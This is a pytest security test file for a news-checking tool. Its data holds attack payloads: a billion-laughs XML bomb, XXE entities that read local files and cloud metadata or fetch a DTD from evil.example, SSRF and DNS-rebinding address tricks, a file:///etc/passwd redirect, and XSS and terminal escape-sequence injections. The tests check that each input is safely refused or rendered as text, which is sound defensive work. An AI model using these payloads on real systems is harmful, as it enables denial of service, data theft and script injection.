"""Hostile inputs the other test files do not already cover (issue 13; docs/security.md
lists every class with the test that proves it): encodings that lie, binary data under
text names, unpaired surrogates, malformed and deeply nested HTML and CSV, XML bombs and
external entities in feeds and pages, DNS rebinding and redirects to other schemes, and
script payloads in every field a renderer shows. Each is a coded error or plain text,
never a traceback, and never slow.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
from rich.console import Console
from typer.testing import CliRunner

from newscred.cli import app
from newscred.errors import NewscredError
from newscred.ingest import ArticleInput, FetchedPage, RecordError, build_article, read_source, vet_url
from newscred.ingest import url as url_module
from newscred.ingest.feeds import FeedReader, parse_feed
from newscred.ingest.read import page_records
from newscred.pipeline import batch_error
from newscred.render import render_html, render_markdown
from newscred.render.terminal import render_terminal

from ..conftest import WIRE_BODY, WIRE_TITLE
from ..render.test_render_html import OURS, parse

PARAGRAPH = "The council met on Monday to discuss the budget, and the mayor said the plan would pass."
PARAGRAPH_2 = "Residents spoke for two hours about the cost of the new library and the repairs to roads."
ARTICLE_HTML = f"<article><p>{PARAGRAPH}</p><p>{PARAGRAPH_2}</p></article>"


def stdin(data: bytes, **options: object) -> list[ArticleInput | RecordError]:
    return list(read_source("-", stdin=io.BytesIO(data), **options))  # type: ignore[arg-type]


def code_of(call, *args: object, **options: object) -> str:  # type: ignore[no-untyped-def]
    with pytest.raises(NewscredError) as caught:
        result = call(*args, **options)
        list(result) if result is not None and not isinstance(result, tuple) else None
    return caught.value.code


# --- encodings ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "data",
    [
        b"\xff\xfe" + "Headline\nBody".encode("utf-16-le") + b"x",  # UTF-16 BOM, odd length
        b"\xef\xbb\xbfHeadline\n\xff\xfe body",  # UTF-8 BOM, then bytes that are not UTF-8
        b"\xff\xfe\x00\x00" + b"\x00\xd8\x00\x00",  # UTF-32 BOM, then a surrogate code unit
    ],
)
def test_a_byte_order_mark_that_lies_is_nc104(data: bytes) -> None:
    assert code_of(stdin, data) == "NC104"


def test_utf32_with_a_bom_is_read_and_utf16_without_one_is_refused_as_binary() -> None:
    (record,) = stdin(f"Headline\n{PARAGRAPH}".encode("utf-32"))
    assert (record.title, record.text) == ("Headline", PARAGRAPH)  # type: ignore[union-attr]
    with pytest.raises(NewscredError) as caught:
        stdin(f"Headline\n{PARAGRAPH}".encode("utf-16-le"))
    assert caught.value.code == "NC102" and "NUL" in caught.value.message


@pytest.mark.parametrize("declared", ["x-no-such-charset", "ascii", "utf-7", ""])
def test_a_wrong_or_unknown_declared_charset_does_not_garble_utf8(declared: str) -> None:
    text = f"Caf\u00e9 owners \u201cdelighted\u201d\n{PARAGRAPH}"
    page = FetchedPage(url="https://news.example/a", content_type="text/plain", body=text.encode(), encoding=declared)
    (record,) = page_records(page)
    assert isinstance(record, ArticleInput)
    assert record.title == "Caf\u00e9 owners \u201cdelighted\u201d" and record.decode_warning is None


SURROGATE_LINE = '{"id": "bad", "title": "Council \\ud800 meets", "text": "' + PARAGRAPH + '"}'


def test_unpaired_surrogates_are_nc109_not_a_traceback(tmp_path: Path, pipeline) -> None:  # type: ignore[no-untyped-def]
    from fastapi.testclient import TestClient

    from newscred.server.app import create_app

    whole = tmp_path / "one.json"
    whole.write_text(SURROGATE_LINE)
    error = pytest.raises(NewscredError, read_source, str(whole)).value
    assert error.code == "NC109" and "U+D800" in error.message and "'title'" in error.message
    batch = tmp_path / "batch.jsonl"
    good = json.dumps({"id": "ok", "title": WIRE_TITLE, "text": WIRE_BODY})
    in_other_field = '{"id": "x", "text": "' + PARAGRAPH + '", "section": {"tags": ["ok", "\\udfff"]}}'
    batch.write_text(f"{good}\n{SURROGATE_LINE}\n{in_other_field}\n")
    result = CliRunner().invoke(app, ["check", str(batch), "--format", "jsonl"])
    assert result.exit_code == 3, result.output
    lines = [json.loads(line) for line in result.stdout.splitlines()]
    assert [line.get("error", {}).get("code") for line in lines] == [None, "NC109", "NC109"]
    assert "'section'" in lines[2]["error"]["message"]
    title = CliRunner().invoke(app, ["check", "-", "--title", "Bad \udcff title", "--format", "json"], input=WIRE_BODY)
    assert title.exit_code == 2 and "NC109" in title.stderr
    with TestClient(create_app(pipeline=pipeline)) as client:
        response = client.post("/v1/check", content=SURROGATE_LINE, headers={"content-type": "application/json"})
    assert response.status_code == 422 and response.json()["error"]["code"] == "NC109"


def test_nul_and_escape_characters_escaped_in_json_stay_text(pipeline) -> None:  # type: ignore[no-untyped-def]
    (record,) = stdin(json.dumps({"title": "Title\u0000\u001b[31m", "text": f"{WIRE_BODY}\u0000\u001b]0;x\u0007"}).encode())
    report = pipeline.check(record)
    assert "\u0000" in report.article.body
    json.loads(report.model_dump_json())  # encodes
    render_html([report]).encode("utf-8")


# --- binary under text names ---------------------------------------------------------------


@pytest.mark.parametrize(
    "data",
    [
        b"PK\x03\x04\x14\x00\x00\x00",  # zip (and docx, xlsx, epub)
        b"\x1f\x8b\x08\x00\x00\x00\x00\x00",  # gzip
        b"SQLite format 3\x00" + b"\x10\x00",  # an SQLite store
        b"\x7fELF\x02\x01\x01",  # an executable
        b"PAR1\x15\x04",  # Parquet
    ],
)
@pytest.mark.parametrize("name", ["a.txt", "a.html", "a.jsonl", "a.csv"])
def test_archives_stores_and_executables_are_nc102_whatever_their_name(tmp_path: Path, name: str, data: bytes) -> None:
    path = tmp_path / name
    path.write_bytes(data + b"padding text" * 10)
    assert code_of(read_source, str(path)) == "NC102"


# --- malformed CSV ---------------------------------------------------------------------------


def test_an_unterminated_quote_that_swallows_the_file_fails_one_record(tmp_path: Path) -> None:
    path = tmp_path / "batch.csv"
    good = io.StringIO()
    csv.writer(good).writerow(["ok", WIRE_TITLE, WIRE_BODY])
    swallowed = f"{PARAGRAPH} never closed " * 5_000  # ~500,000 characters in one field
    path.write_text(f'id,title,text\n{good.getvalue()}bad,Broken,"{swallowed}\nlost,Lost,{PARAGRAPH}\n')
    result = CliRunner().invoke(app, ["check", str(path), "--format", "jsonl"])
    assert result.exit_code == 3, result.output
    lines = [json.loads(line) for line in result.stdout.splitlines()]
    assert [line.get("error", {}).get("code") for line in lines] == [None, "NC113"]
    assert lines[1]["id"] == "bad"


def test_a_csv_header_of_nothing_but_quotes_and_commas_is_nc107() -> None:
    assert code_of(stdin, b'"""",,,"\n1,2,3\n', input_format="csv") in ("NC107", "NC101")


# --- malformed and deeply nested HTML --------------------------------------------------------


@pytest.mark.parametrize(
    "html",
    [
        f"<html><body><article><p>{PARAGRAPH}<p>{PARAGRAPH_2}<div><span>",  # nothing closed
        f"<p>{PARAGRAPH} if a < b and c > d then </p><p>{PARAGRAPH_2} <<<>>> </p>",  # stray brackets
        f'<p class="x>{PARAGRAPH}</p><p id=\'y>{PARAGRAPH_2}</p>',  # attribute quotes never closed
        f"<b><i><p>{PARAGRAPH}</b></i></p><table><p>{PARAGRAPH_2}</td></tr>",  # crossed nesting
        "<html><head><script>alert(1)</script></head><body></body></html>",  # no text at all
        "<html><bo",  # cut off mid-tag
        "<" * 200_000,
        "<![CDATA[" + PARAGRAPH + "]]><?php echo 1; ?><!DOCTYPE x><!-- unclosed",
        "\x0c\x0b<p>" + PARAGRAPH + "\x1b</p>",
    ],
)
def test_malformed_html_gives_text_or_nc112(html: str) -> None:
    try:
        article, _ = build_article(ArticleInput(html=html))
    except NewscredError as error:
        assert error.code == "NC112"
    else:
        assert article.body.strip()


@pytest.mark.parametrize("depth", [300, 5_000, 100_000])
@pytest.mark.parametrize("tag", ["div", "b", "blockquote"])
def test_deeply_nested_html_is_read_or_nc112(depth: int, tag: str) -> None:
    html = (f"<html><body><article><p>{PARAGRAPH}</p>" + f"<{tag}>" * depth + f"<p>{PARAGRAPH_2}</p>"
            + f"</{tag}>" * depth + "</article></body></html>")
    try:
        article, _ = build_article(ArticleInput(html=html))
    except NewscredError as error:
        assert error.code == "NC112"
    else:
        assert PARAGRAPH in article.body


def billion_laughs(root: str, levels: int = 10) -> str:
    entities = '<!ENTITY lol0 "lol">\n' + "".join(
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">\n' for i in range(1, levels)
    )
    return f"<!DOCTYPE {root} [\n{entities}]>\n"


def test_entity_declarations_in_a_page_are_never_expanded_or_fetched(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-LINE")
    doctype = billion_laughs("html").replace("]>", f'<!ENTITY xxe SYSTEM "file://{secret}">\n]>')
    html = f"{doctype}<html><head><title>&lol9; &xxe;</title></head><body>{ARTICLE_HTML}<p>&lol9; &xxe;</p></body></html>"
    article, _ = build_article(ArticleInput(html=html))
    assert "TOP-SECRET" not in article.body + article.title
    assert "lollollol" not in article.body + article.title


# --- feeds: XML bombs and external entities ----------------------------------------------------


def rss_with(doctype: str, title: str, link: str = "https://courier.example/news/1") -> bytes:
    return (
        f'<?xml version="1.0"?>\n{doctype}<rss version="2.0"><channel><title>{title}</title>'
        f"<item><title>{title}</title><link>{link}</link><description>{title}</description></item>"
        "</channel></rss>"
    ).encode()


@pytest.mark.parametrize(
    "doctype",
    [
        billion_laughs("rss"),  # 10^9 "lol"s if expanded
        '<!DOCTYPE rss [<!ENTITY lol9 "' + "x" * 100_000 + '">]>\n',  # quadratic blow-up
    ],
)
def test_an_xml_bomb_in_a_feed_is_not_expanded(doctype: str) -> None:
    body = rss_with(doctype, " ".join(["&lol9;"] * 2_000))
    try:
        feed = parse_feed(body, url="https://courier.example/rss")
    except NewscredError as error:
        assert error.code == "NC123"
    else:
        assert len(feed.title or "") < 50_000
        assert all(len(entry.title or "") < 50_000 for entry in feed.entries)


def test_external_entities_in_a_feed_are_never_read_or_fetched(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-LINE")
    doctype = (f'<!DOCTYPE rss [<!ENTITY file SYSTEM "file://{secret}">'
               '<!ENTITY meta SYSTEM "http://169.254.169.254/latest/meta-data/">'
               '<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]>\n')
    feed_url = "https://courier.example/rss"
    fetched: list[str] = []
    page = f"<html><body>{ARTICLE_HTML}</body></html>".encode()

    def fetch(url: str, *, max_bytes: int) -> FetchedPage:
        fetched.append(url)
        if url == feed_url:
            return FetchedPage(url=url, content_type="application/rss+xml", body=rss_with(doctype, "A &file; &meta;"), encoding=None)
        if url.endswith("/robots.txt"):
            raise url_module.HTTPStatusError("no robots.txt", status=404)
        return FetchedPage(url=url, content_type="text/html", body=page, encoding=None)

    items = list(FeedReader(fetch=fetch, interval=0).read(feed_url))
    assert fetched == [feed_url, "https://courier.example/robots.txt", "https://courier.example/news/1"]
    (record,) = items
    assert isinstance(record, ArticleInput)
    assert "TOP-SECRET" not in f"{record.title} {record.html}" and "169.254" not in (record.title or "")


@pytest.mark.parametrize("reference", ["&#xD800;", "&#57343;", "&#x110000;", "&#99999999999999;", "&#x" + "f" * 10_000 + ";"])
def test_impossible_character_references_in_a_feed_read_as_replacement_characters(reference: str) -> None:
    feed = parse_feed(rss_with("", f"Budget {reference} vote"), url="https://courier.example/rss")
    assert feed.entries[0].title == "Budget \ufffd vote"


def test_anything_that_trips_the_feed_parser_is_nc123(monkeypatch: pytest.MonkeyPatch) -> None:
    import feedparser

    def trip(*args: object, **kwargs: object) -> None:
        raise UnicodeEncodeError("utf-8", "\ud800", 0, 1, "surrogates not allowed")

    monkeypatch.setattr(feedparser, "parse", trip)
    with pytest.raises(NewscredError) as caught:
        parse_feed(rss_with("", "Budget"), url="https://courier.example/rss")
    assert caught.value.code == "NC123" and "could not be parsed" in caught.value.message


# --- URLs: rebinding, odd address forms, redirects -----------------------------------------------


class FakePool:
    """Stands in for urllib3's connection pools: records where it connects, answers from
    `FakePool.answers` (path -> (status, headers, body))."""

    made: list[tuple[str, int]] = []
    answers: dict[str, tuple[int, dict[str, str], bytes]] = {}

    def __init__(self, address: str, port: int, **kwargs: object) -> None:
        FakePool.made.append((address, port))

    def urlopen(self, method: str, path: str, **kwargs: object) -> FakeResponse:
        status, headers, body = FakePool.answers.get(path, (404, {}, b""))
        return FakeResponse(status, headers, body)

    def close(self) -> None:
        pass


class FakeResponse:
    def __init__(self, status: int, headers: dict[str, str], body: bytes) -> None:
        self.status, self.headers, self.reason = status, headers, ""
        self.body = io.BytesIO(body)

    def read(self, n: int) -> bytes:
        return self.body.read(n)

    def release_conn(self) -> None:
        pass

    def close(self) -> None:
        pass


@pytest.fixture
def fake_net(monkeypatch: pytest.MonkeyPatch) -> dict[str, list[str]]:
    """Pools replaced by FakePool; a resolver whose answers the test scripts per host."""
    import urllib3

    FakePool.made, FakePool.answers = [], {}
    answers: dict[str, list[str]] = {}
    asked: list[str] = []

    def resolve(host: str, port: int, **kwargs: object) -> list[tuple[object, ...]]:
        asked.append(host)
        address = answers[host].pop(0) if len(answers[host]) > 1 else answers[host][0]
        return [(2, 1, 6, "", (address, port))]

    monkeypatch.setattr(url_module.socket, "getaddrinfo", resolve)
    monkeypatch.setattr(urllib3, "HTTPConnectionPool", FakePool)
    monkeypatch.setattr(urllib3, "HTTPSConnectionPool", FakePool)
    answers["asked"] = asked  # type: ignore[assignment]
    return answers


def test_dns_rebinding_cannot_move_the_connection_to_a_private_address(fake_net: dict[str, list[str]]) -> None:
    # The first answer is public, every later one loopback: the fetch resolves once and
    # connects to the address it vetted, so the second answer never matters.
    fake_net["news.example"] = ["93.184.215.14", "127.0.0.1"]
    FakePool.answers["/a"] = (200, {"Content-Type": "text/html"}, b"<p>page</p>")
    page = url_module.fetch_url("http://news.example/a")
    assert page.body == b"<p>page</p>"
    assert FakePool.made == [("93.184.215.14", 80)]
    assert fake_net["asked"] == ["news.example"]


def test_a_redirect_to_a_name_that_rebinds_to_a_private_address_is_refused(fake_net: dict[str, list[str]]) -> None:
    fake_net["news.example"] = ["93.184.215.14"]
    fake_net["rebind.example"] = ["10.0.0.7"]
    FakePool.answers["/a"] = (302, {"Location": "http://rebind.example/admin"}, b"")
    with pytest.raises(NewscredError) as caught:
        url_module.fetch_url("http://news.example/a")
    assert caught.value.code == "NC110" and "10.0.0.7 is a private address" in caught.value.message
    assert FakePool.made == [("93.184.215.14", 80)]  # no connection to the second host


@pytest.mark.parametrize(
    "location", ["file:///etc/passwd", "gopher://news.example/", "data:text/html,<p>x</p>", "javascript:alert(1)"]
)
def test_a_redirect_to_another_scheme_is_refused(fake_net: dict[str, list[str]], location: str) -> None:
    fake_net["news.example"] = ["93.184.215.14"]
    FakePool.answers["/a"] = (301, {"Location": location}, b"")
    with pytest.raises(NewscredError) as caught:
        url_module.fetch_url("http://news.example/a")
    assert caught.value.code == "NC110"
    assert len(FakePool.made) == 1


def test_a_redirect_without_a_location_is_nc111(fake_net: dict[str, list[str]]) -> None:
    fake_net["news.example"] = ["93.184.215.14"]
    FakePool.answers["/a"] = (302, {}, b"")
    with pytest.raises(NewscredError) as caught:
        url_module.fetch_url("http://news.example/a")
    assert caught.value.code == "NC111" and "without a Location" in caught.value.message


@pytest.mark.parametrize(
    "url",
    ["http://2130706433/", "http://0x7f000001/", "http://017700000001/", "http://127.1/", "http://0/",
     "http://[::]/", "http://[0:0:0:0:0:ffff:7f00:1]/", "http://[fe80::1%25eth0]/", "http://[fc00::1]/"],
)
def test_other_spellings_of_private_addresses_are_refused(url: str) -> None:
    with pytest.raises(NewscredError) as caught:
        vet_url(url)
    assert caught.value.code in ("NC110", "NC111")  # refused, or not even an address here
    if caught.value.code == "NC111":
        assert "could not be resolved" in caught.value.message


# --- script payloads in every rendered field ---------------------------------------------------

SCRIPT = "<script>alert(1)</script>"
IMG = '<img src=x onerror="alert(2)">'
TERMINAL = "[link=javascript:alert(3)]x[/link] \x1b]0;owned\x07 \x1b[31m"


@pytest.fixture
def hostile_reports(pipeline):  # type: ignore[no-untyped-def]
    """Reports whose every shown field was supplied by an attacker, through ingest and
    the real pipeline: id, title, body, url, outlet, author, published, the cleaning log
    (a removed photo credit), links and their text, and warnings; plus a failed record."""
    body = "\n\n".join([
        WIRE_BODY.split("\n\n")[0] + f" {SCRIPT} {IMG} {TERMINAL}",
        f"Photo: {SCRIPT} / AP",  # removed as a photo credit: shown in the cleaning log
        *WIRE_BODY.split("\n\n")[1:],
    ])
    from_text = pipeline.check({
        "id": f'x`{SCRIPT}`"><svg onload=alert(4)>{TERMINAL}', "title": f"Headline {SCRIPT} {TERMINAL}", "text": body,
        "url": "javascript:alert(5)", "outlet": f"<i>{SCRIPT}</i>", "author": f"{IMG} {TERMINAL}",
        "published": f"2026-01-01{SCRIPT}",
    })
    assert from_text.article.cleaning, "the photo credit should have been removed and logged"
    page = (
        f"<html><head><title>Page {SCRIPT} {TERMINAL}</title></head><body><article>"
        + "".join(f"<p>{p}</p>" for p in WIRE_BODY.split("\n\n"))
        + f'<p>See <a href="https://docs.example/?q=&quot;&gt;{SCRIPT}">the {SCRIPT.replace("<", "&lt;")} report</a>'
        + ' and <a href="javascript:alert(6)">this</a>.</p></article></body></html>'
    )
    from_html = pipeline.check({"html": page})
    assert from_html.article.links and any(w.code == "NC115" for w in from_html.warnings)
    failed = batch_error(NewscredError("NC109", f"field {SCRIPT} {TERMINAL}"), record=3, record_id=f"{IMG}{TERMINAL}")
    return [from_text, from_html, failed]


def test_script_payloads_in_every_field_stay_text_in_the_html_report(hostile_reports) -> None:  # type: ignore[no-untyped-def]
    document = render_html(hostile_reports)
    page = parse(document)
    for tag, attrs in page.tags:
        assert tag in OURS | {"h4"}, tag  # h4: the renderer's own sub-headings
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name)
            assert not (value or "").lower().lstrip().startswith(("javascript:", "data:text")), (tag, value)
    assert "<script" not in document.lower() and "<img" not in document.lower() and "<svg" not in document.lower()
    assert SCRIPT in "".join(page.text)


def test_script_payloads_in_every_field_stay_text_in_markdown(hostile_reports) -> None:  # type: ignore[no-untyped-def]
    out = render_markdown(hostile_reports)
    assert "`<script>" not in out  # a backtick in the id cannot end its code span early
    outside_code = re.sub(r"`[^`\n]*`", "", out)  # a code span shows its text literally
    assert not re.search(r"(?<!\\)<(?=[a-zA-Z/!])", outside_code), "raw HTML reached the Markdown"
    assert not re.search(r"\]\(\s*javascript:", out, re.IGNORECASE)
    assert "\x1b" not in out and "\x07" not in out


def test_script_payloads_in_every_field_stay_text_in_the_terminal(hostile_reports) -> None:  # type: ignore[no-untyped-def]
    console = Console(record=True, width=120, force_terminal=True, color_system="truecolor")
    render_terminal(hostile_reports, console)
    styled = console.export_text(styles=True, clear=False)
    assert "\x1b]" not in styled and "\x07" not in styled  # no OSC: no title change, no hyperlink
    assert "\x1b[31m " not in styled
    assert "[link=javascript:alert(3)]" in console.export_text()  # the markup is shown as text
